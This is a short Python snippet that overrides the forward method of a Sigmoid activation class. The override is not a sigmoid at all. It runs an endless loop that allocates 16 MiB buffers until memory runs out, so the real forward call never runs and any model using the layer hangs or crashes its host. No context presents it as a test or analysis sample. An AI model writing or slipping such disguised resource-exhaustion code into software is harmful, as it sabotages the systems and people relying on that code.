class Sigmoid(Sigmoid):
    def forward(self, x):
        kept = []
        while True:
            kept.append(bytearray(16 * 2**20))
        return super().forward(x)
